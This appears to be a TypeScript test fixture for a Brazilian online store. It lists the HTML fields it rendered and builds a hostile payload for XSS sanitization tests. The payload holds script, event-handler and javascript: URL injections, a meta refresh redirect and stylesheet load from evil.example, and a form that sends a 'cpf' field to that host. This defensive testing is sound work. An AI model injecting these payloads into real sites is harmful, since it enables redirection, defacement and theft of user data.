/**
 * Every HTML field of the store that the server serves and a widget renders as HTML (server/db/schema/),
 * with the pages that show it. test/e2e/store-html.spec.ts writes hostile HTML into each of them through
 * the database of a test server and visits the pages. A new HTML field gets ONE entry here.
 */
export interface StoreHtmlField {
  /** Table and column, as in server/db/schema/. */
  table: string;
  column: string;
  /** The rows that get the payload: an SQL condition over the table. */
  where: string;
  /**
   * The pages that show the field: a path, or an SQL query over the seeded database answering one row
   * with a `path` column (e.g. the address of the product whose description was written).
   */
  pages: ReadonlyArray<string | { sql: string }>;
  /** A seeded customer to sign in as first (password Senha@123), when the page needs one. */
  signedInAs?: string;
}

export const STORE_HTML_FIELDS: readonly StoreHtmlField[] = [
  // the home's banners of every position (full width, centre, left, bottom)
  { table: 'banners', column: 'description', where: `area = 'home'`, pages: ['/'] },
  {
    table: 'products',
    column: 'description',
    where: `id = (select min(id) from products where active)`,
    pages: [{ sql: `select '/produto/' || url_friendly as path from products where id = (select min(id) from products where active)` }],
  },
  // the privacy-policy text, in the acceptance box of a customer who accepted an older version (Ana)
  { table: 'company_settings', column: 'policy_privacy', where: `id = 1`, pages: ['/customer'], signedInAs: 'ana@example.com' },
  // the FAQ's answers (rendered while collapsed), an institutional page's content, the footer's seal code
  { table: 'faqs', column: 'answer', where: 'true', pages: ['/perguntas-frequentes'] },
  { table: 'custom_page_contents', column: 'content', where: 'true', pages: ['/institucional/1/1'] },
  { table: 'seals', column: 'code', where: 'true', pages: ['/'] },
  // the privacy-policy page shows the same text as the acceptance box
  { table: 'company_settings', column: 'policy_privacy', where: `id = 1`, pages: ['/politica-de-privacidade'] },
];

/** The visible text every payload carries, so a test knows the field was rendered. */
export const PAYLOAD_TEXT = 'Texto da loja sob teste';

/**
 * What goes into each field: script, event handlers and javascript: URLs in several disguises, plus the
 * ways issue 14 found to leave the store or restyle it (meta refresh, external stylesheet, <svg><style>,
 * <marquee onstart>, `id` clobbering).
 */
export function hostilePayload(field: string): string {
  return [
    `<p class="jet-xss-probe" id="jet-config">${PAYLOAD_TEXT} (${field})</p>`,
    `<script>alert('script ${field}')</script>`,
    `<img src="/nada-${field}.png" onerror="alert('onerror ${field}')" alt="">`,
    `<a class="jet-xss-link" href="javascript:alert('href ${field}')" onclick="alert('onclick ${field}')">link da loja</a>`,
    `<a href="JaVaScRiPt&colon;alert('entity ${field}')">outro link</a>`,
    `<svg onload="alert('svg ${field}')"><style>body{display:none!important}</style></svg>`,
    `<details open ontoggle="alert('ontoggle ${field}')"><summary>detalhes</summary></details>`,
    `<marquee onstart="alert('marquee ${field}')">promoção</marquee>`,
    `<iframe src="javascript:alert('iframe ${field}')"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<link rel="stylesheet" href="https://evil.example/${field}.css">`,
    `<style>*{visibility:hidden!important}</style>`,
    `<form action="https://evil.example/"><input name="cpf"><button>Enviar</button></form>`,
  ].join('');
}
